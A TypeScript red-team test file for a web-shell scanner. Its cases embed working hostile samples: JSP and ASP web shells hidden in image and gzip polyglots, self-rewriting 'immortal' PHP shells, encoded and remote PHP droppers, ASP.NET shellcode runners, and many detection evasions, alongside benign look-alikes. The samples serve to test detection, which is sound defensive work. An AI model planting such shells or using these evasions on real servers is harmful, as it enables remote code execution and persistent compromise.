/**
 * Red team s27: the session's changes read as an attacker would (3ac6b54, e678894): the ASP/JSP tag
 * test in pictures and compressed files, the layers read by the PHP families only, and the three new
 * detections (immortal-rewriter, mamori_php_encoded_php_dropper, the DefinePInvokeMethod branch of
 * mamori_aspx_shellcode_runner), their evasions and look-alikes. Every sample is our own.
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { deflateRawSync } from 'node:zlib';
import { createScanner } from './scanner.js';

const scanner = createScanner({});
const scan = (src: string | Buffer, path: string) => scanner.scanBuffer(Buffer.isBuffer(src) ? src : Buffer.from(src, 'latin1'), path);
const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');

// A picture or an archive with a page's code after its header (bytes as they are: UTF-8 or GBK)
const GIF = Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;', 'latin1');
const PNG = Buffer.from('\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\x00', 'latin1');
const GZ = Buffer.from('\x1f\x8b\x08\x10\x00\x00\x00\x00\x00\x03', 'latin1');
const JPG = Buffer.from('\xff\xd8\xff\xe0\x00\x10JFIF\x00', 'latin1');
const polyglot = (head: Buffer, body: string, enc: BufferEncoding = 'utf8') => Buffer.concat([head, Buffer.from(body, enc), Buffer.from('\x00\x00\x00\x00IEND', 'latin1')]);
const JSP_CN = '<%//执行命令\n Process p = Runtime.getRuntime().exec(request.getParameter("c")); java.io.InputStream in = p.getInputStream(); int a; while ((a = in.read()) != -1) out.print((char) a); %>';

// The PHP an immortal shell or a dropper writes: nothing the rules see by itself
const BODY = '<?php header("Location: https://spam.example/"); ?>';
const IMMORTAL = `<?php\nignore_user_abort(true);\nset_time_limit(0);\n@unlink(__FILE__);\n$f = dirname(__FILE__) . '/.cache-x.php';\n$body = base64_decode('${b64(BODY)}');\n`;
const uu = (s: string): string => {
  const b = Buffer.from(s, 'latin1');
  let out = '';
  for (let i = 0; i < b.length; i += 45) {
    const ch = b.subarray(i, i + 45);
    out += String.fromCharCode(32 + ch.length);
    for (let j = 0; j < ch.length; j += 3) {
      const [x, y, z] = [ch[j]!, ch[j + 1] ?? 0, ch[j + 2] ?? 0];
      for (const v of [x >> 2, ((x & 3) << 4) | (y >> 4), ((y & 15) << 2) | (z >> 6), z & 63]) out += v === 0 ? '`' : String.fromCharCode(32 + v);
    }
    out += '\n';
  }
  return `${out}\`\n`;
};

// An ASP.NET shellcode runner importing its functions at run time (the bytes' copy left to each case)
const PINVOKE = `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.Reflection.Emit" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
static object Call(string lib, string fn, object[] args, Type[] types, Type ret) {
  var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new AssemblyName("a"), AssemblyBuilderAccess.Run);
  var mb = ab.DefineDynamicModule("m");
  mb.DefinePInvokeMethod(fn, lib, MethodAttributes.Public | MethodAttributes.Static | MethodAttributes.PinvokeImpl, CallingConventions.Standard, ret, types, CallingConvention.Winapi, CharSet.Ansi);
  mb.CreateGlobalFunctions();
  return mb.GetMethod(fn).Invoke(null, args);
}
protected void Page_Load(object s, EventArgs e) {
  byte[] sc = Unseal(Blob);
  IntPtr mem = (IntPtr)Call(Dec(K1), Dec(F1), new object[] { IntPtr.Zero, (uint)sc.Length, (uint)(0x1000 | 0x2000), 0x40u }, new[] { typeof(IntPtr), typeof(uint), typeof(uint), typeof(uint) }, typeof(IntPtr));
COPY
  Call(Dec(K1), Dec(F2), new object[] { 0u, 0u, mem, IntPtr.Zero, 0u, IntPtr.Zero }, null, typeof(IntPtr));
}
</script>`;
const dllImportPage = (decls: string, body: string) => `<%@ Page Language="C#" %>
<script runat="server">
${decls}
protected void Page_Load(object s, EventArgs e) {
  byte[] sc = System.Convert.FromBase64String(Request.Form["d"]);
${body}
}
</script>`;

type Expect = 'malicious' | 'flagged' | 'not-malicious' | 'clean';
// (why each open finding is open)
const TODO: Record<string, string> = {};
// [finding id (a todo) or undefined (fixed here, or a property that holds), what, path, the file, what it should be, a rule that must be among the findings]
const CASES: [string | undefined, string, string, string | Buffer, Expect, string?][] = [
  // S27R-1: '<%' with non-ASCII after it in a picture or a compressed file was no tag (3ac6b54)
  [undefined, 'S27R-1 (fixed here): a GIF with a JSP shell whose block opens with a Chinese comment (malicious at 9472fb8, clean at 3ac6b54)', '/www/upload/a.gif', polyglot(GIF, JSP_CN), 'malicious', 'mamori_jsp_runtime_exec_input'],
  [undefined, 'S27R-1 (fixed here): the same in a PNG included by a JSP', '/www/upload/a.png', polyglot(PNG, JSP_CN), 'malicious', 'mamori_jsp_runtime_exec_input'],
  [undefined, 'S27R-1 (fixed here): the same in a gzip header', '/www/upload/a.gz', polyglot(GZ, JSP_CN), 'malicious', 'mamori_jsp_runtime_exec_input'],
  [undefined, "S27R-1 (fixed here): a JPEG with <%/*é*/ and Runtime.exec of a parameter", '/www/upload/c.jpg', polyglot(JPG, '<%/*é*/Runtime.getRuntime().exec(request.getParameter("c"));%>'), 'malicious', 'mamori_jsp_runtime_exec_input'],
  [undefined, "S27R-1 (fixed here): IIS a.asp;.jpg, a GIF with <%'一句话 and eval request (UTF-8)", '/www/upload/a.asp;.jpg', polyglot(GIF, '<%\'一句话\neval request("pass")%>'), 'malicious', 'mamori_aspx_eval_request'],
  [undefined, 'S27R-1 (fixed here): the same with its comment in GBK', '/www/upload/b.asp;.jpg', polyglot(GIF, '<%\'\xd2\xbb\xbe\xe4\xbb\xb0\neval request("pass")%>', 'latin1'), 'malicious', 'mamori_aspx_eval_request'],
  [undefined, 'S27R-1 (fixed here): the same with a GBK comment longer than its code (less than half ASCII)', '/www/upload/c.asp;.jpg', polyglot(GIF, "<%'" + '\xd2\xbb\xbe\xe4\xbb\xb0\xc4\xbe\xc2\xed'.repeat(10) + '\r\neval request("pass")%>', 'latin1'), 'malicious', 'mamori_aspx_eval_request'],
  [undefined, 'holds: a GIF whose "<%" is followed by the compressed stream\'s bytes, no "%>" (no tag)', '/www/img/x.gif', polyglot(GIF, '<%ab\xe9\x90\x91\xfe\x80cd eval request("x") \x01\x02'.repeat(3), 'latin1'), 'clean'],
  // S27R-10: only the first 256 '<%' were looked at (before this session too)
  [undefined, "S27R-10 (fixed here): 256 decoy '<%\\x01' before a JSP shell in a GIF (clean at 9472fb8)", '/www/upload/d.gif', Buffer.concat([GIF, Buffer.from('<%\x01'.repeat(256), 'latin1'), Buffer.from('<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>')]), 'malicious', 'mamori_jsp_runtime_exec_input'],
  [undefined, "S27R-10 (fixed here): 5,000 decoys before it in a text file", '/www/upload/d.txt', Buffer.from('<%\x01'.repeat(5000) + '<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>', 'latin1'), 'malicious', 'mamori_jsp_runtime_exec_input'],

  // S27R-2: immortal-rewriter evasions (e678894 read only `while (1|true|!0|!false) {` and for (;;) {,
  // the 2,000 characters after the brace, a writer named in them)
  [undefined, 'holds: the base immortal shell, while (1) { .. }', '/www/i.php', `${IMMORTAL}while (1) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): do { .. } while (1);', '/www/i.php', `${IMMORTAL}do { file_put_contents($f, $body); usleep(2000); } while (1);`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): do { if (..) { .. } } while (true);', '/www/i.php', `${IMMORTAL}do {\n  if (!is_file($f)) {\n    file_put_contents($f, $body);\n  }\n  usleep(2000);\n} while (true);`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): while (1) without braces', '/www/i.php', `${IMMORTAL}while (1) file_put_contents($f, $body) && usleep(2000);`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): while (1): .. endwhile;', '/www/i.php', `${IMMORTAL}while (1):\n file_put_contents($f, $body); usleep(2000);\nendwhile;`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): while (1 == 1), while (2), while ($run = true)', '/www/i.php', `${IMMORTAL}while (1 == 1) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): while (2)', '/www/i.php', `${IMMORTAL}while (2) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): while ($run = true)', '/www/i.php', `${IMMORTAL}while ($run = true) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): while (file_exists(__FILE__) || 1)', '/www/i.php', `${IMMORTAL}while (file_exists(__FILE__) || 1) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): for ($i = 0; ; $i++)', '/www/i.php', `${IMMORTAL}for ($i = 0; ; $i++) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): a goto back to a label', '/www/i.php', `${IMMORTAL}loop:\nfile_put_contents($f, $body);\nusleep(2000);\ngoto loop;`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): a writer function called from the loop', '/www/i.php', `${IMMORTAL}function keep($f, $b) { if (!is_file($f)) file_put_contents($f, $b); }\nwhile (1) { keep($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): a closure held in a variable as the writer', '/www/i.php', `${IMMORTAL}$w = function ($f, $b) { if (!is_file($f)) file_put_contents($f, $b); };\nwhile (1) { $w($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): an arrow function as the writer', '/www/i.php', `${IMMORTAL}$w = fn($f, $b) => file_put_contents($f, $b);\nwhile (1) { $w($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, "S27R-2 (fixed here): a method writing $this->path, called as $this->w() from a method's loop", '/www/i.php', `${IMMORTAL}class K { public $path; public $b; function w() { if (!is_file($this->path)) file_put_contents($this->path, $this->b); } function run() { while (1) { $this->w(); usleep(2000); } } }\n$k = new K; $k->path = $f; $k->b = $body; $k->run();`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): a function calling itself after a sleep', '/www/i.php', `${IMMORTAL}function k($f, $b) { if (!is_file($f)) file_put_contents($f, $b); usleep(2000); k($f, $b); }\nk($f, $body);`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, "S27R-2 (fixed here): ini_set('ignore_user_abort', '1')", '/www/i.php', `${IMMORTAL.replace('ignore_user_abort(true);', "ini_set('ignore_user_abort', '1');")}while (1) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, "S27R-2 (fixed here): call_user_func('ignore_user_abort', true)", '/www/i.php', `${IMMORTAL.replace('ignore_user_abort(true);', "call_user_func('ignore_user_abort', true);")}while (1) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): no ignore_user_abort, set_time_limit(0) and unlink(__FILE__) (the loop writes no output: it runs on)', '/www/i.php', `${IMMORTAL.replace('ignore_user_abort(true);\n', '')}while (1) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): a comment of 2,100 characters before the write', '/www/i.php', `${IMMORTAL}while (1) { /* ${'x'.repeat(2100)} */ file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): error_log($body, 3, $f) as the writer', '/www/i.php', `${IMMORTAL}while (1) { if (!is_file($f)) error_log($body, 3, $f); usleep(100); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, "S27R-2 (fixed here): fopen and fprintf($h, '%s', ..)", '/www/i.php', `${IMMORTAL}while (1) { $h = fopen($f, 'w'); fprintf($h, '%s', $body); fclose($h); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): no loop, register_shutdown_function requesting the script again', '/www/i.php', `${IMMORTAL}file_put_contents($f, $body);\nregister_shutdown_function(function () { $u = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']; @file_get_contents($u, false, stream_context_create(array('http' => array('timeout' => 1)))); });\nsleep(5);`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, "S27R-2 (fixed here): call_user_func('file_put_contents', $f, $body) in the loop", '/www/i.php', `${IMMORTAL}while (1) { call_user_func('file_put_contents', $f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'S27R-2 (fixed here): ignore_user_abort(-1)', '/www/i.php', `${IMMORTAL.replace('ignore_user_abort(true)', 'ignore_user_abort(-1)')}while (1) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, "S27R-2 (fixed here): ignore_user_abort's name built, $a = 'ignore_' . 'user_abort'; $a(1), with set_time_limit(0)", '/www/i.php', `${IMMORTAL.replace('ignore_user_abort(true);', "$a = 'ignore_' . 'user_abort'; $a(1);").replace('@unlink(__FILE__);\n', '')}while (1) { file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  [undefined, 'not malicious: a backup with no time limit writing a .sql.php dump in while (true), sleeping between batches, ended by break', '/www/wp-content/plugins/bk/dump.php', `<?php
set_time_limit(0);
$fh = fopen(BK_DIR . '/db-' . date('Ymd') . '.sql.php', 'w');
fwrite($fh, "<?php exit; ?>\n");
$off = 0;
while (true) {
  $rows = bk_rows($off, 500);
  if (!$rows) break;
  fwrite($fh, bk_sql($rows));
  $off += 500;
  usleep(20000);
}
fclose($fh);`, 'not-malicious'],
  [undefined, 'not malicious: a dev watcher with no time limit rewriting var/cache/container.php in while (true)', '/www/bin/watch.php', `<?php\nset_time_limit(0);\nrequire __DIR__ . '/../vendor/autoload.php';\n$last = 0;\nwhile (true) {\n  $m = latest_mtime(__DIR__ . '/../config');\n  if ($m > $last) { file_put_contents(__DIR__ . '/../var/cache/container.php', compile_container()); $last = $m; }\n  sleep(1);\n}`, 'not-malicious'],
  [undefined, "not malicious: a state file written as '<?php return ' . var_export(..) in while (1), no time limit", '/www/bin/state.php', `<?php\nset_time_limit(0);\nwhile (1) { file_put_contents(__DIR__ . '/state.php', '<?php return ' . var_export(collect_state(), true) . ';'); sleep(10); }`, 'not-malicious'],
  [undefined, 'S27R-11 (fixed here): an immortal loop with 64 KiB of code before its write (the body was read to 64 KiB)', '/www/i.php', `${IMMORTAL}while (1) { ${'$z = strlen($body) + 1; '.repeat(3000)} file_put_contents($f, $body); usleep(2000); }`, 'malicious', 'mamori:immortal-rewriter'],
  // S27R-3: a benign worker was malicious (any `.php` in the file, any write in the loop)
  [undefined, "S27R-3 (fixed here): not malicious: a worker, ignore_user_abort and while (true), writing its log, the file requiring bootstrap.php (malicious 85 at e678894)", '/www/worker.php', `<?php\nrequire __DIR__ . '/bootstrap.php';\nignore_user_abort(true);\nset_time_limit(0);\nwhile (true) {\n  $job = next_job();\n  if ($job) { process_job($job); file_put_contents(__DIR__ . '/logs/worker.log', date('c') . " done {$job['id']}\\n", FILE_APPEND); }\n  sleep(1);\n}`, 'not-malicious'],
  [undefined, 'not malicious: an updater copying a stream into a .php file in while (true), ended by break', '/www/admin/update.php', `<?php\nignore_user_abort(true);\nset_time_limit(0);\n$in = fopen('https://updates.example.org/core/latest/index.php.txt', 'rb');\n$out = fopen(__DIR__ . '/../index.php.new', 'wb');\nwhile (true) {\n  $chunk = fread($in, 8192);\n  if ($chunk === false || $chunk === '') break;\n  fwrite($out, $chunk);\n}\nfclose($in); fclose($out);\nrename(__DIR__ . '/../index.php.new', __DIR__ . '/../index.php');`, 'not-malicious'],
  [undefined, 'not malicious: a cache warmer writing an HTML page in while (1)', '/www/cron/warm.php', `<?php\nignore_user_abort(1);\nset_time_limit(0);\nwhile (1) { $html = file_get_contents('http://localhost/index.php'); file_put_contents(__DIR__ . '/cache/index.html', $html); sleep(300); }`, 'not-malicious'],
  [undefined, 'not malicious: do { .. } while (0) writing config.php once', '/www/install/x.php', `<?php\nignore_user_abort(true);\ndo { if (!is_writable('.')) break; file_put_contents('config.php', '<?php return ' . var_export($cfg, true) . ';'); } while (0);`, 'not-malicious'],
  [undefined, 'not malicious: a self-deleting installer writing config.php once, no loop', '/www/install.php', `<?php\nset_time_limit(0);\nfile_put_contents(__DIR__ . '/config.php', '<?php define("DB", "x");');\nforeach (glob('*.sql') as $f) { import_sql($f); }\nunlink(__FILE__);`, 'not-malicious'],

  // S27R-4: mamori_php_encoded_php_dropper reads file_put_contents("<literal>.php", <one decoder>("..
  [undefined, 'holds: the base dropper, file_put_contents("x.php", base64_decode("..")', '/www/d.php', `<?php\nfile_put_contents("a9x2k.php", base64_decode("${b64(BODY)}"));`, 'malicious', 'mamori_php_encoded_php_dropper'],
  [undefined, "S27R-4 (fixed here): the name with __DIR__ . '/x.php'", '/www/d.php', `<?php\nfile_put_contents(__DIR__ . '/a9x2k.php', base64_decode('${b64(BODY)}'));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, "S27R-4 (fixed here): the name with dirname(__FILE__) . '/wp-conf.php'", '/www/d.php', `<?php\n@file_put_contents(dirname(__FILE__).'/wp-conf.php', base64_decode('${b64(BODY)}'));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, 'S27R-4 (fixed here): the name in a variable', '/www/d.php', `<?php\n$n = 'a9x2k.php';\nfile_put_contents($n, base64_decode('${b64(BODY)}'));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, "S27R-4 (fixed here): the name joined, 'a9x2k' . '.php'", '/www/d.php', `<?php\nfile_put_contents('a9x2k' . '.php', base64_decode('${b64(BODY)}'));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, 'S27R-4 (fixed here): gzinflate(base64_decode(..))', '/www/d.php', `<?php\nfile_put_contents('a9x2k.php', gzinflate(base64_decode('${deflateRawSync(Buffer.from(BODY, 'latin1')).toString('base64')}')));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, 'S27R-4 (fixed here): base64_decode(strrev(..))', '/www/d.php', `<?php\nfile_put_contents('a9x2k.php', base64_decode(strrev('${b64(BODY).split('').reverse().join('')}')));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, 'S27R-4 (fixed here): convert_uudecode(..)', '/www/d.php', `<?php\nfile_put_contents('a9x2k.php', convert_uudecode(${JSON.stringify(uu(BODY))}));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, 'S27R-4 (fixed here): fopen(x.php) and fwrite($h, base64_decode(..))', '/www/d.php', `<?php\n$h = fopen('a9x2k.php', 'w');\nfwrite($h, base64_decode('${b64(BODY)}'));\nfclose($h);`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, 'S27R-4 (fixed here): the decoded code in a variable first', '/www/d.php', `<?php\n$c = base64_decode('${b64(BODY)}');\nfile_put_contents('a9x2k.php', $c);`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, 'S27R-4 (fixed here): the literal in a variable given to the decoder', '/www/d.php', `<?php\n$p = '${b64(BODY)}';\nfile_put_contents(__DIR__ . '/wp-l10n.php', base64_decode($p));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, "S27R-4 (fixed here): the literal in pieces in a variable, $p = 'PD9w' . 'aHAg' . ..", '/www/d.php', `<?php\n$p = '${b64(BODY).match(/.{1,6}/g)!.join("' . '")}';\nfile_put_contents(__DIR__ . '/wp-l10n.php', base64_decode($p));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, "S27R-4 (fixed here): base64_decode(implode('', ['PD9w', ..]))", '/www/d.php', `<?php\nfile_put_contents(__DIR__ . '/wp-l10n.php', base64_decode(implode('', ['${b64(BODY).match(/.{1,6}/g)!.join("', '")}'])));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, 'S27R-4 (fixed here): a heredoc given to base64_decode', '/www/d.php', `<?php\nfile_put_contents('a9x2k.php', base64_decode(<<<E\n${b64(BODY)}\nE\n));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, 'S27R-4 (fixed here): copy() of a base64 data:// URL to x.php', '/www/d.php', `<?php\ncopy('data://text/plain;base64,${b64(BODY)}', 'a9x2k.php');`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, "S27R-4 (fixed here): '<?php ' . base64_decode(..) written", '/www/d.php', `<?php\nfile_put_contents('a9x2k.php', '<?php ' . base64_decode('${b64('header("Location: http://spam.example/");')}'));`, 'malicious', 'mamori:encoded-php-dropper'],
  [undefined, "not malicious: a cache writing a .php file of \"<?php return unserialize(base64_decode('\" . base64_encode(..) . \"'));\"", '/www/lib/cache.php', `<?php\nfunction cache_put($key, $data) {\n  $file = CACHE_DIR . '/' . md5($key) . '.php';\n  file_put_contents($file, "<?php return unserialize(base64_decode('" . base64_encode(serialize($data)) . "'));");\n}`, 'not-malicious'],
  [undefined, "not malicious: an updater writing base64_decode(file_get_contents('https://..')) under a .php name (no literal of code)", '/www/lib/up2.php', `<?php\nfile_put_contents(__DIR__ . '/geo-data.php', base64_decode(file_get_contents('https://updates.example.org/geo/latest.b64')));`, 'not-malicious'],
  [undefined, 'not malicious: a plugin updater writing a decoded response (not a literal) under a .php name', '/www/lib/up.php', `<?php\n$r = json_decode(file_get_contents('https://api.example.org/plugin.json'), true);\nfile_put_contents(__DIR__ . '/plugin.php', base64_decode($r['code']));`, 'not-malicious'],
  [undefined, 'not malicious: a decoded PNG written under .png, the file requiring config.php', '/www/admin/import.php', `<?php\nrequire 'config.php';\nfile_put_contents('uploads/logo.png', base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='));`, 'not-malicious'],

  // S27R-9: request input written whole into a PHP file (clean at 9472fb8 and e678894, where
  // error_log(.., 3, 'x.php') of the same was malicious): the dropper's code from the request
  [undefined, "S27R-9 (fixed here): file_put_contents('x.php', base64_decode($_POST[..]))", '/www/w.php', `<?php
file_put_contents('x.php', base64_decode($_POST['x']));`, 'malicious', 'mamori:input-code-file'],
  [undefined, "S27R-9 (fixed here): file_put_contents(dirname(__FILE__) . '/.cache-x.php', gzinflate(base64_decode($_COOKIE[..])))", '/www/w.php', `<?php
file_put_contents(dirname(__FILE__) . '/.cache-x.php', gzinflate(base64_decode($_COOKIE['x'])));`, 'malicious', 'mamori:input-code-file'],
  [undefined, "S27R-9 (fixed here): fopen('x.php') and fwrite($h, $_POST[..])", '/www/w.php', `<?php
$h = fopen('x.php', 'w'); fwrite($h, $_POST['x']); fclose($h);`, 'malicious', 'mamori:input-code-file'],
  [undefined, "S27R-9 (fixed here): php://input written to __DIR__ . '/x.php'", '/www/w.php', `<?php
file_put_contents(__DIR__ . '/x.php', file_get_contents('php://input'));`, 'malicious', 'mamori:input-code-file'],
  [undefined, 'not malicious: an installer writing config.php with input inside a template', '/www/install/s.php', `<?php
file_put_contents('../config.php', "<?php\n\$db_host = '" . addslashes($_POST['host']) . "';\n");`, 'not-malicious'],
  [undefined, 'not malicious: a message appended to post.log, the base directory from __FILE__ in a constant', '/www/s.php', `<?php
define('BASE', dirname(__FILE__));
file_put_contents(BASE . '/post.log', $_POST['msg'], FILE_APPEND);`, 'not-malicious'],

  // S27R-12: a PHP file written from a fixed remote address, malicious by mamori_php_remote_dropper
  // with a literal name and file_get_contents or copy: the name built or curl was clean
  [undefined, "S27R-12 (fixed here): file_put_contents(__DIR__ . '/x.php', file_get_contents('http://..'))", '/www/d.php', `<?php\nfile_put_contents(__DIR__ . '/wp-l10n.php', file_get_contents('http://198.51.100.7/s.txt'));`, 'malicious', 'mamori:remote-code-file'],
  [undefined, "S27R-12 (fixed here): copy('http://..', 'x.php')", '/www/d.php', `<?php\ncopy('http://198.51.100.7/s.txt', __DIR__ . '/wp-l10n.php');`, 'malicious', 'mamori:remote-code-file'],
  [undefined, 'S27R-12 (fixed here): curl_init of a URL, curl_exec into a variable, written under .php', '/www/d.php', `<?php\n$c = curl_init('http://198.51.100.7/s.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($c);\nfile_put_contents('wp-l10n.php', $d);`, 'malicious', 'mamori:remote-code-file'],
  [undefined, "holds: Composer's installer copied to composer-setup.php into a variable's name (S21R-12)", '/srv/app/bin/setup.php', `<?php\n$setup = __DIR__ . '/composer-setup.php';\ncopy('https://getcomposer.org/installer', $setup);\nif (hash_file('sha384', $setup) !== trim(file_get_contents('https://composer.github.io/installer.sig'))) { unlink($setup); }\n`, 'clean'],
  [undefined, 'not flagged: a remote JSON written to a cache .json, the file requiring config.php', '/www/lib/feed.php', `<?php\nrequire 'config.php';\nfile_put_contents(__DIR__ . '/cache/feed.json', file_get_contents('https://api.example.org/feed'));`, 'clean'],

  // S27R-5: the DefinePInvokeMethod branch asks for Marshal.Copy
  [undefined, 'holds: DefinePInvokeMethod and Marshal.Copy', '/www/r.aspx', PINVOKE.replace('COPY', '  Marshal.Copy(sc, 0, mem, sc.Length);'), 'malicious', 'mamori_aspx_shellcode_runner'],
  [undefined, 'S27R-5 (fixed here): DefinePInvokeMethod and Marshal.WriteByte in a loop', '/www/r.aspx', PINVOKE.replace('COPY', '  for (int i = 0; i < sc.Length; i++) Marshal.WriteByte(mem, i, sc[i]);'), 'malicious', 'mamori_aspx_shellcode_runner'],
  [undefined, 'S27R-5 (fixed here): DefinePInvokeMethod and unsafe code copying through a pointer', '/www/r.aspx', PINVOKE.replace('<%@ Page Language="C#" %>', '<%@ Page Language="C#" CompilerOptions="/unsafe" %>').replace('COPY', '  unsafe { byte* p = (byte*)mem; for (int i = 0; i < sc.Length; i++) p[i] = sc[i]; }'), 'malicious', 'mamori_aspx_shellcode_runner'],
  [undefined, "S27R-5 (fixed here): DefinePInvokeMethod and RtlMoveMemory (its name decrypted) from a pinned buffer's address", '/www/r.aspx', PINVOKE.replace('COPY', '  GCHandle h = GCHandle.Alloc(sc, GCHandleType.Pinned); Call(Dec(K1), Dec(F3), new object[] { mem, h.AddrOfPinnedObject(), (uint)sc.Length }, null, typeof(void));'), 'malicious', 'mamori_aspx_shellcode_runner'],
  // S27R-6: the DllImport branch (an evasion of what 9472fb8 caught)
  [undefined, 'S27R-6 (fixed here): DllImport(@"kernel32.dll"), a verbatim string', '/www/r.aspx', dllImportPage('[System.Runtime.InteropServices.DllImport(@"kernel32.dll")] static extern IntPtr VirtualAlloc(IntPtr a, uint s, uint t, uint p);\n[System.Runtime.InteropServices.DllImport(@"kernel32.dll")] static extern IntPtr CreateThread(IntPtr a, uint s, IntPtr st, IntPtr p, uint f, IntPtr id);', '  IntPtr m = VirtualAlloc(IntPtr.Zero, (uint)sc.Length, 0x3000, 0x40); System.Runtime.InteropServices.Marshal.Copy(sc, 0, m, sc.Length); CreateThread(IntPtr.Zero, 0, m, IntPtr.Zero, 0, IntPtr.Zero);'), 'malicious', 'mamori_aspx_shellcode_runner'],
  [undefined, 'S27R-6 (fixed here): VirtualProtect on a pinned buffer, run as the callback of EnumWindows', '/www/r.aspx', dllImportPage('[System.Runtime.InteropServices.DllImport("kernel32")] static extern bool VirtualProtect(IntPtr a, UIntPtr s, uint p, out uint o);\n[System.Runtime.InteropServices.DllImport("user32")] static extern bool EnumWindows(IntPtr cb, IntPtr l);', '  var h = System.Runtime.InteropServices.GCHandle.Alloc(sc, System.Runtime.InteropServices.GCHandleType.Pinned); IntPtr m = h.AddrOfPinnedObject(); uint o; VirtualProtect(m, (UIntPtr)sc.Length, 0x40, out o); EnumWindows(m, IntPtr.Zero);'), 'malicious', 'mamori_aspx_shellcode_runner'],
  // S27R-7: the functions' addresses from GetProcAddress, called through delegates
  [undefined, 'S27R-7 (fixed here): LoadLibrary and GetProcAddress of decrypted names, GetDelegateForFunctionPointer, Marshal.Copy', '/www/g.aspx', `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Runtime.InteropServices" %>
<script runat="server">
[DllImport("kernel32")] static extern IntPtr LoadLibrary(string n);
[DllImport("kernel32")] static extern IntPtr GetProcAddress(IntPtr m, string n);
delegate IntPtr Alloc(IntPtr a, uint s, uint t, uint p);
delegate IntPtr Run(IntPtr a, uint s, IntPtr st, IntPtr p, uint f, IntPtr id);
protected void Page_Load(object s, EventArgs e) {
  byte[] sc = Unseal(Blob);
  IntPtr k = LoadLibrary(Dec(K1));
  var alloc = (Alloc)Marshal.GetDelegateForFunctionPointer(GetProcAddress(k, Dec(F1)), typeof(Alloc));
  IntPtr mem = alloc(IntPtr.Zero, (uint)sc.Length, 0x1000 | 0x2000, 0x40);
  Marshal.Copy(sc, 0, mem, sc.Length);
  var run = (Run)Marshal.GetDelegateForFunctionPointer(GetProcAddress(k, Dec(F2)), typeof(Run));
  run(IntPtr.Zero, 0, mem, IntPtr.Zero, 0, IntPtr.Zero);
}
</script>`, 'malicious', 'mamori_aspx_shellcode_runner'],
